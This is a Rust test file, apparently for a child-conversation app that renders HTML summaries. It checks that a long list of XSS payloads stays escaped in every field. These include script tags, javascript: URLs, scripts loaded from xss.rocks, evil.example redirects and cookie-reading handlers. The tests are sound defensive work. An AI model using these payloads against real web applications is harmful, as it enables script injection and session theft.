    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
    "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    " onerror=alert(1) ",
    "'-alert(1)-'",
    "\"-alert(1)-\"",
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</blockquote></li></ol></section><script>alert(1)</script>",
    "</bdi><img src=x onerror=alert(1)>",
    "<!--",
    "-->",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;",
    "&amp;lt;",
    "&",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{2039}script\u{203A}",
    "a\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>",
    "<object data=\"javascript:alert(1)\">",
    "<form><button formaction=javascript:alert(1)>X</button>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img srcset=\"x 1x\" onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=import href=https://evil.example>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "javascript&colon;alert(1)",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u{202E}gnp.exe",
    "line one\r\nline two\r<script>",
    "\u{2028}<script>\u{2029}",
];

/// HTML that shows `text` exactly, written apart from the app's own escaping.
fn reference_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
        .replace('\0', "\u{FFFD}")
}

/// A session with `text` in every field a person typed, and the summary texts the UI would
/// fill from it; with `audience`, a summary for the name the child gave.
fn everywhere(text: &str, for_named: bool) -> String {
    let mut session = mia();
    session.child.name = text.into();
    session.worker = text.into();
    session.set_place(text, 2_000);
    session.set_present(text, 2_000);
    session.set_reflection(text, 2_000);
    let named = session
        .add_named_audience(text, 2_000)
        .expect("test texts are not blank");
    for question in Question::ALL {
        session.rename(Tool::ThreeHouses, question, text, 2_000);
        session.decide(
            SharedItem::Name {
                tool: Tool::ThreeHouses,
                question,
            },
            Decision::shared_with([named.clone()]),
            2_001,
        );
        for voice in [Voice::ChildWrote, Voice::ChildSaidWorkerWrote] {
            let id = session.add_words(Tool::ThreeHouses, question, words(text, voice), 2_000);
            session.decide_sharing(
                question,
                id,
                Decision::shared_with([named.clone(), Audience::Mum]),
                2_001,
            );
        }
        let drawing = session.add_drawing(Tool::ThreeHouses, question, 2_000);
        session.decide_sharing(
            question,
            drawing,
            Decision::shared_with([named.clone()]),
            2_001,
        );
    }
    let private = session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words(text, Voice::ChildWrote),
        2_000,
    );
    session.decide_sharing(Question::Worries, private, Some(Decision::Private), 2_001);
    // The worker's records of their own, with the text everywhere they hold words.
    let why = WorkerReason::new("2026-11-28", text, text).expect("test texts are not blank");
    let item = SharedItem::Entry {
        question: Question::Worries,
        entry: private,
    };
    session.hold_back(item, named.clone(), why.clone(), 2_002);
    session.record_passed_on(item, named.clone(), why, 2_003);
    session.set_summary_choices(
        SummaryChoices {
            audience: named.clone(),
            shown: Shown::EVERYTHING,
            note: text.into(),
            respect_line: Some(RespectLine::KeepForNow),
        },
        2_004,
    );
    session.record_export(Export {
        at_ms: 2_005,
        audience: Some(named.clone()),
        kind: ExportKind::Downloaded,
        file_name: text.into(),
        confirmed_worries: Vec::new(),
        picture: None,
    });
    let mut labels = english();
    labels.title = format!("Summary of a conversation with {text}");
    labels.audience_line = format!("Summary for: {text}");
    let audience = for_named.then_some(named);
    render(&Summary::of(&session, audience.as_ref()), &labels)
}

#[test]
fn hostile_text_stays_text_in_every_field() {
    for &payload in HOSTILE {
        for for_named in [false, true] {
            let html = everywhere(payload, for_named);
            let harmless = everywhere("x", for_named);
            let lower = html.to_lowercase();
            assert!(!lower.contains("<script"), "{payload:?}");
            assert!(!lower.contains("<img src=x"), "{payload:?}");
            assert!(
                !lower.contains("<!--") && !lower.contains("<![cdata["),
                "{payload:?}"
            );
            assert_tags_are_only_ours(&html);
            // Escaped text adds no markup: the document has the same tags, in the same
            // order, as one made with harmless text.
            assert_eq!(tags(&html), tags(&harmless), "{payload:?}");
            for character in ['<', '>', '"', '\''] {
                assert_eq!(
                    html.matches(character).count(),
                    harmless.matches(character).count(),
                    "{payload:?} {character:?}"
                );
            }

            let escaped = reference_escape(payload);
            let trimmed = reference_escape(payload.trim());
            let expected = [
                // The child's name, place, present and worker in the header.
                format!("<dd dir=\"auto\">{escaped}</dd>"),
                format!("<h2 dir=\"auto\">{escaped}</h2>"),
                format!("<blockquote class=\"child-words\" dir=\"auto\">{escaped}</blockquote>"),
                format!("<div class=\"notes\" dir=\"auto\">{escaped}</div>"),
                format!("<title>Summary of a conversation with {escaped}</title>"),
            ];
            for expected in &expected {
                assert!(html.contains(expected), "{payload:?} as {expected}");
            }
            // The line naming the reader, where a name the child gave may stand isolated.
            let audience = &html[html.find("<p class=\"audience\"").unwrap()..];
            let audience = &audience[..audience.find("</p>").unwrap() + "</p>".len()];
            assert_eq!(
                audience.replace("<bdi>", "").replace("</bdi>", ""),
                format!("<p class=\"audience\" dir=\"auto\">Summary for: {escaped}</p>"),
                "{payload:?}"
            );
            let header = &html[html.find("<header>").unwrap()..html.find("</header>").unwrap()];
            assert_eq!(
                header
                    .matches(&format!("<dd dir=\"auto\">{escaped}</dd>"))
                    .count(),
                3,
                "{payload:?}: name, place, worker"
            );
            // What an older record typed for who was there, in its own direction.
            assert!(
                header.contains(&format!(
                    "<dd class=\"present\"><p class=\"present-typed\" dir=\"auto\">{escaped}</p>"
                )),
                "{payload:?}: present"
            );
            let child_words = html
                .matches(&format!(
                    "<blockquote class=\"child-words\" dir=\"auto\">{escaped}</blockquote>"
                ))
                .count();
            assert_eq!(child_words, if for_named { 6 } else { 7 }, "{payload:?}");
            if !for_named {
                // The name the child gave, as a label: trimmed at the ends, then escaped.
                assert!(
                    html.contains(&format!("<bdi>{trimmed}</bdi>")),
                    "{payload:?}"
                );
            }
        }
    }
}

#[test]
fn entities_typed_by_the_child_are_shown_as_typed_not_decoded() {
    let mut session = mia();
    session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("&lt;script&gt; &amp; &#39;", Voice::ChildWrote),
        2_000,
    );
    let html = render(&Summary::of(&session, None), &english());
    assert!(html.contains(">&amp;lt;script&amp;gt; &amp;amp; &amp;#39;</blockquote>"));
}

#[test]
fn hostile_labels_and_language_stay_text_too() {
    let hostile = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";
    let mut labels = english();
    let mut usual = labels.usual_names.clone();
    let mut tools = labels.tool_names.clone();
    for field in [
        &mut labels.lang,
        &mut labels.title,
        &mut labels.audience_line,
        &mut labels.child_label,
        usual
            .get_mut(&(Tool::ThreeHouses, Question::Worries))
            .unwrap(),
        &mut labels.child_wrote,
        &mut labels.child_drew,
        &mut labels.drawing_alt,
        &mut labels.picture_missing,
        &mut labels.page_line,
        &mut labels.wish_label,
        &mut labels.wish_none,
        &mut labels.wish_private,
        &mut labels.held_back_label,
        &mut labels.reason_label,
        &mut labels.given_to_heading,
        &mut labels.note_heading,
        &mut labels.respect_keep_for_now,
        &mut labels.list_separator,
        &mut labels.mum,
        &mut labels.undecided_line,
        &mut labels.reflection_heading,
        &mut labels.no_reflection,
        &mut labels.asked_in_label,
    ] {
        *field = hostile.into();
    }
    for name in tools.values_mut() {
        *name = hostile.into();
    }
    for key in [
        (Tool::WizardsAndFairies, Question::Worries),
        (Tool::WizardsAndFairies, Question::Dreams),
    ] {
        *usual.get_mut(&key).unwrap() = hostile.into();
    }
    labels.usual_names = usual;
    labels.tool_names = tools;
    let mut session = decided();
    with_helpers(&mut session);
    for pictures in [
        &with_png as &dyn Fn(Question, EntryId) -> Option<String>,
        &|_, _| None,
    ] {
        let html = render_summary_html(
            &Summary::of(&session, None),
            &labels,
            &Painters {
                picture: pictures,
                earlier_picture: &|_, _, _| None,
                time: &time,
                day: &|at_ms| format!("day {at_ms}"),
            },
        );
        assert!(!html.to_lowercase().contains("<script"));
        assert_tags_are_only_ours(&html);
        assert!(html.starts_with(&format!(
            "<!DOCTYPE html>\n<html lang=\"{}\" dir=\"ltr\">",
            reference_escape(hostile)
        )));
    }
}

/// Adds Wizards and Fairies to a session: a dragon, a name for the wishes helper, a wish and
/// a drawing for the worries helper.
fn with_helpers(session: &mut Session) -> (EntryId, EntryId) {
    session.choose_helper(
        Helper {
            kind: HelperKind::Dragon,
            main: HelperColour::Green,
            accent: HelperColour::Orange,
        },
        9_000,
    );
    session.rename(Tool::WizardsAndFairies, Question::Dreams, "Sparky", 9_100);
    let wish = session.add_words(
        Tool::WizardsAndFairies,
        Question::Dreams,
        words("I wish  the shouting\nstops", Voice::ChildSaidWorkerWrote),
        9_200,
    );
    let drawing = session.add_drawing(Tool::WizardsAndFairies, Question::Worries, 9_300);
    (wish, drawing)
}

#[test]
fn wizards_and_fairies_alone_shows_the_helpers_with_their_pictures() {
    let mut session = mia();
    let (wish, _) = with_helpers(&mut session);
    let summary = Summary::of(&session, None);
    assert_eq!(summary.tools, [Tool::WizardsAndFairies]);
    assert_eq!(
        summary.helper.map(|helper| helper.kind),
        Some(HelperKind::Dragon)
    );
    let dreams = summary.question(Question::Dreams).unwrap();
    assert_eq!(dreams.own_name(Tool::WizardsAndFairies), Some("Sparky"));
    assert_eq!(dreams.entries[0].id, wish);
    let html = render(&summary, &english());
    assert_tags_are_only_ours(&html);
    assert!(
        html.contains("<dd dir=\"auto\">Wizards and Fairies</dd>"),
        "{html}"
    );
    // The helpers' names, the child's own name first with the usual one under it.
    assert_in_order(
        &html,
        &[
            "<h2 dir=\"auto\">Good Things dragon</h2>",
            "<h2 dir=\"auto\">Worries dragon</h2>",
            "<h2 dir=\"auto\">Sparky</h2>",
        ],
    );
    assert!(
        html.contains("<h2 dir=\"auto\">Sparky</h2>\n<p class=\"usual-name\">Wishes dragon</p>")
    );
    assert!(
        !html.contains("House of"),
        "no house is named when only helpers were used"
    );
    assert!(html.contains("I wish  the shouting\nstops"));
    // Each helper's own picture, in the child's colours, embedded in the file.
    let helper = session.helper.unwrap();
    for question in Question::ALL {
        assert!(html.contains(&format!(
            "<img class=\"helper\" src=\"{}\"",
            helper.picture_url(question)
        )));
    }
    assert!(
        !html.contains("Asked in:"),
        "one tool: nothing to tell apart"
    );
}

#[test]
fn a_session_with_both_tools_names_each_question_in_both_and_says_where_entries_were_made() {
    let mut session = decided();
    with_helpers(&mut session);
    let summary = Summary::of(&session, None);
    assert_eq!(summary.tools, [Tool::ThreeHouses, Tool::WizardsAndFairies]);
    let html = render(&summary, &english());
    assert_tags_are_only_ours(&html);
    assert!(html.contains("<dd dir=\"auto\">Three Houses, Wizards and Fairies</dd>"));
    assert!(html
        .contains("<h2 dir=\"auto\"><bdi>House of Worries</bdi> · <bdi>Worries dragon</bdi></h2>"));
    assert!(html.contains(
        "<h2 dir=\"auto\"><bdi>House of Dreams</bdi> · <bdi>Sparky</bdi></h2>\n<p class=\"usual-name\">Wishes dragon</p>"
    ));
    // Every entry, from either tool, once, with the tool it was asked in.
    let entries: usize = Question::ALL
        .into_iter()
        .map(|question| session.entries(question).len())
        .sum();
    assert_eq!(html.matches("<p class=\"asked-in\">").count(), entries);
    assert_eq!(html.matches("Asked in: Wizards and Fairies").count(), 2);
    assert_eq!(html.matches("Asked in: Three Houses").count(), entries - 2);
}

#[test]
fn the_helpers_picture_stays_out_when_only_the_houses_were_used() {
    let mut session = decided();
    // A helper chosen and then never used is still taking part: choosing is the child's act.
    session.choose_helper(Helper::new(HelperKind::Fairy), 9_000);
    assert_eq!(Summary::of(&session, None).tools.len(), 2);
    let houses_only = decided();
    let html = render(&Summary::of(&houses_only, None), &english());
    assert!(!html.contains("class=\"helper\""));
    assert!(!html.contains("data:image/svg+xml"));
}

// ---------------------------------------------------------------------------------------------
// Helpers that read the HTML without a parser. Every `<` in the output starts a tag, since
// text never holds a raw `<`; so the tags can be read by scanning from `<` to `>`.

/// The tags of a document in order, the whole text from `<` to `>`.
fn tags(html: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').expect("every tag is closed") + start;
        found.push(&rest[start..=end]);
        rest = &rest[end + 1..];
    }
    found
}

/// The document's text without tags and without its style sheet.
fn visible_text(html: &str) -> String {
    let (before, after) = html.split_once("<style>").unwrap();
    let (_, after) = after.split_once("</style>").unwrap();
    let mut text = String::new();
    let without_style = format!("{before}{after}");
    let mut rest = without_style.as_str();
    while let Some(start) = rest.find('<') {
        text.push_str(&rest[..start]);
        let end = rest[start..].find('>').unwrap() + start;
        rest = &rest[end + 1..];
    }
    text.push_str(rest);
    text
}

/// Every tag is one the renderer writes, with only its own attributes: no event handlers,
/// no URLs but checked PNG data.
fn assert_tags_are_only_ours(html: &str) {
    const ELEMENTS: &[&str] = &[
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "main",
        "section",
        "h1",
        "h2",
        "p",
        "dl",
        "dt",
        "dd",
        "ol",
        "li",
        "blockquote",
        // The prompt as the child saw it, in the full record.
        "q",
        "figure",
        "figcaption",
        "img",
        "bdi",
        "div",
        "span",
        "ul",
    ];
    const ATTRIBUTES: &[&str] = &[
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
        "dir",
        "src",
        "alt",
    ];
    for tag in tags(html) {
        if tag == "<!DOCTYPE html>" {
            continue;
        }
        let inner = tag.trim_start_matches('<').trim_end_matches('>');
        let inner = inner.strip_prefix('/').unwrap_or(inner);
        let (name, mut attributes) = inner.split_once(' ').unwrap_or((inner, ""));
        assert!(ELEMENTS.contains(&name), "unexpected element in {tag}");
        // Attributes are name="value" pairs; values never hold a quote, since text is escaped.
        while !attributes.is_empty() {
            let (attribute, value_and_rest) = attributes
                .split_once("=\"")
                .unwrap_or_else(|| panic!("attribute without a quoted value in {tag}"));
            assert!(
                ATTRIBUTES.contains(&attribute.trim()),
                "unexpected attribute {attribute} in {tag}"
            );
            let (value, rest) = value_and_rest
                .split_once('"')
                .unwrap_or_else(|| panic!("unclosed value in {tag}"));
            if attribute.trim() == "src" {
                assert!(is_png_data_url(value) || is_helper_picture(value), "{tag}");
            }
            attributes = rest;
        }
    }
}

/// True only for the app's own picture of a helper, in one of the colours a child can choose.
fn is_helper_picture(url: &str) -> bool {
    HelperKind::ALL.into_iter().any(|kind| {
        HelperColour::ALL.into_iter().any(|main| {
            HelperColour::ALL.into_iter().any(|accent| {
                Question::ALL
                    .into_iter()
                    .any(|question| Helper { kind, main, accent }.picture_url(question) == url)
            })
        })
    })
}

/// Each needle appears after the one before it.
fn assert_in_order(html: &str, needles: &[&str]) {
    let mut from = 0;
    for needle in needles {
        let at = html[from..]
            .find(needle)
            .unwrap_or_else(|| panic!("{needle} not found after byte {from}"));
        from += at + needle.len();
    }
}

// ---------------------------------------------------------------------------------------------
// Entries that could not be read

/// The version 5 fixture with the dream shared with Oma and the meeting stored as a kind this
/// app does not know ("audio", with its words), and a drawing shared with Mum whose ink is
/// damaged.
fn with_unreadable_entries() -> Session {
    let mut record: serde_json::Value =
        serde_json::from_str(include_str!("fixtures/session-v5.json")).unwrap();
    let questions = &mut record["session"]["questions"];
    let dream = &mut questions["dreams"]["entries"][0];
    assert_eq!(dream["id"], 3);
    dream["kind"] = "audio".into();
    let drawing = &mut questions["worries"]["entries"][0];
    assert_eq!(drawing["id"], 1);
    drawing["ink"] = "AQIDBAUG".into();
    let mut session =
        hear_me::store::record::decode_session(&serde_json::to_string(&record).unwrap()).unwrap();
    // The child's wish, recorded after reading: the unreadable drawing's sharing reads.
    assert!(session.decide_sharing(
        Question::Worries,
        EntryId(1),
        Decision::shared_with([Audience::Mum]),
        1_764_400_000_000,
    ));
    session
}

#[test]
fn the_full_record_names_an_unreadable_entry_and_no_audience_ever_sees_one() {
    let session = with_unreadable_entries();
    let text = english();
    let full = Summary::of(&session, None);
    let dreams = full.question(Question::Dreams).unwrap();
    assert_eq!(dreams.entries[0].content, SummaryContent::Unreadable);
    let html = render(&full, &text);
    assert_eq!(html.matches(&text.unreadable_entry).count(), 2, "{html}");
    assert!(html.contains("<li class=\"entry unreadable\">"));
    // What could not be read is not shown as if it could.
    assert!(!html.contains("Bei Oma wohnen"));
    let mut audiences: Vec<Audience> = Audience::PICTURED.to_vec();
    audiences.push(Audience::Named("Oma".into()));
    for audience in audiences {
        let summary = Summary::of(&session, Some(&audience));
        assert!(summary
            .questions
            .iter()
            .flat_map(|question| &question.entries)
            .all(|entry| entry.content != SummaryContent::Unreadable));
        let html = render(&summary, &text);
        assert!(!html.contains(&text.unreadable_entry), "{audience:?}");
        assert!(!html.contains("Bei Oma wohnen"), "{audience:?}");
    }
    // Mum's summary has no drawing of the child's: the damaged one is left out.
    let for_mum = Summary::of(&session, Some(&Audience::Mum));
    assert!(shown(&for_mum)
        .iter()
        .all(|(_, entries)| entries.iter().all(|entry| !entry.starts_with("drawing"))));
}

#[test]
fn a_bilingual_summary_names_every_heading_in_both_languages_and_keeps_the_childs_words() {
    let mut session = mia();
    let id = session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("Mein Hund heißt Bello", Voice::ChildWrote),
        2_000,
    );
    session.decide_sharing(
        Question::Worries,
        id,
        Decision::shared_with([Audience::Mum]),
        2_001,
    );
    let english = english();
    let mut other = english.clone();
    other.lang = "de".into();
    other.child_label = "Kind".into();
    other.date_label = "Datum".into();
    other.wish_label = "Wunsch des Kindes:".into();
    for name in other.usual_names.values_mut() {
        name.insert_str(0, "DE ");
    }
    let both = english.bilingual(&other);
    assert_eq!(both.lang, "en", "the file keeps the worker's language");
    assert_eq!(both.child_label, format!("{} / Kind", english.child_label));
    assert_eq!(both.date_label, format!("{} / Datum", english.date_label));
    // A text both languages write alike is shown once.
    assert_eq!(both.made_label, english.made_label);
    for (key, name) in &both.usual_names {
        assert_eq!(
            name,
            &format!(
                "{} / DE {}",
                english.usual_names[key], english.usual_names[key]
            )
        );
    }
    // The child's words stay exactly as given, once.
    let html = render(&Summary::of(&session, Some(&Audience::Mum)), &both);
    assert!(html.contains(&format!("{} / Kind", english.child_label)));
    let plain = render(&Summary::of(&session, Some(&Audience::Mum)), &english);
    assert_eq!(html.matches("Mein Hund heißt Bello").count(), 1);
    assert_eq!(plain.matches("Mein Hund heißt Bello").count(), 1);
}
